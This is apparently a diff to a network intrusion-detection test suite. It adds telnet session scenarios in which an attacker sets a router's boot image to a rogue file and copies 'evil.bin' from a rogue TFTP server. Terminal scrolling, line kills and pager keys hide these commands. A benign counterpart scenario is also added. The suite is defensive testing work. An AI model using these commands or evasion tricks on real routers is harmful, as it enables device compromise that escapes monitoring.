@@ -110,11 +110,76 @@ def bw07_words_of_a_login(wire: Wire) -> None:
     session.close()
 
 
+def typing(session: telnet.Telnet, line: str) -> int:
+    """A line at a device of 80 columns that scrolls, without Enter; how far behind the prompt the cursor is then."""
+    at = 0
+    for key, shown in zip(line, telnet.scrolling(session.prompt, line, 80), strict=True):
+        session.keys(key, shown)
+        at += len(shown) - 2 * shown.count("\b")
+    return at
+
+
+def killed(session: telnet.Telnet, at: int) -> None:
+    """Ctrl-U: what is shown of the line is blanked."""
+    session.keys("\x15", "\b" * at + " " * at + "\b" * at)
+
+
+@scenario(
+    "BW07",
+    "malicious",
+    # No rule restores what was killed.
+    raises=[("BW07", 0, ATTACKER, "10.0.1.1"), ("BW07", 1, ATTACKER, "10.0.1.3")],
+    site=HQ,
+    with_site=Expect(
+        (
+            Notice("Boot_Command", "10.0.1.1", ROGUE, FILE),
+            Notice("Boot_Command", "10.0.1.2", ROGUE, FILE),
+            Notice("Boot_Command", "10.0.1.3", ROGUE, "evil.bin"),
+        )
+    ),
+)
+def bw07_edited_and_scrolled(wire: Wire) -> None:
+    """Words are completed, and the window moves before the key is echoed; a line is killed and restored; a key of the
+    pager stands before a command that scrolls.
+    """
+    session = telnet.Telnet(wire, ATTACKER, "10.0.1.1", prompt="edge1(config)#", port=50031)
+    session.login()
+    session.keys("bo\t", "bo\r\nedge1(config)#boot ")
+    session.keys("sys\t", "sys\r\nedge1(config)#boot system ")
+    shown = "boot system "
+    for key in EVIL:
+        if len(shown) < 64:
+            session.keys(key, key)
+            shown += key
+        else:
+            window = "$" + shown[-52:] + key
+            session.keys(key, "\b" * len(shown) + window + " " * (65 - len(window)) + "\b" * (65 - len(window)))
+            shown = window
+    session.keys("\r\0", "\r\nedge1(config)#")
+    session.close()
+
+    session = telnet.Telnet(wire, ATTACKER, "10.0.1.2", prompt="edge2(config)#", port=50032)
+    session.login()
+    killed(session, typing(session, f"boot system {EVIL}"))
+    session.keys("\x19", f"$ {EVIL[-58:]}")
+    session.keys("\r\0", "\r\nedge2(config)#")
+    session.close()
+
+    session = telnet.Telnet(wire, ATTACKER, "10.0.1.3", prompt="edge3#", port=50033)
+    session.login()
+    session.typed("show version", "Cisco IOS Software\n --More-- ", prompt="")
+    session.keys("q", "\b" * 10 + " " * 10 + "\b" * 10 + "\r\nedge3#")
+    typing(session, f"copy tftp://{ROGUE}/evil.bin flash:a-name-that-is-longer-than-what-is-left-of-the-terminal.bin")
+    session.keys("\r\0", "\r\nDestination filename [evil.bin]? ")
+    session.close()
+
+
 @scenario(
     "BW07",
     "benign",
     raises=[("BW07", 0, ADMIN, DEVICE)],
-    raises_with_site=[],
+    # A rule does not see what is put in at the line's beginning.
+    raises_with_site=[("BW07", 10, ADMIN, DEVICE)],
     site=HQ,
     with_site=Expect(),
 )
@@ -125,4 +190,12 @@ def bw07_long_lines_of_daily_work(wire: Wire) -> None:
     session.edited(f"boot system tftp://{BOOT_SERVER}/{IMAGE}" + " " * 40, telnet.scrolling, 80)
     session.edited(f"description not yet: boot system {EVIL}", telnet.scrolling, 80)
     session.edited(f"no boot system {EVIL}", telnet.scrolling, 80)
+    # A line that scrolled is killed, or becomes a negation at its beginning: what was shown before counts no more.
+    line = f"boot system {EVIL}"
+    killed(session, typing(session, line))
+    session.keys("do show clock\r\0", "do show clock\r\n08:00:00 UTC\r\nedge1(config)#")
+    at = typing(session, line)
+    session.keys("\x01", "\b" * at + line[:64] + "$" + "\b" * 65)
+    session.keys("no ", "no " + line[:61] + "$" + "\b" * 62)
+    session.keys("\r\0", "\r\nedge1(config)#")
     session.close()
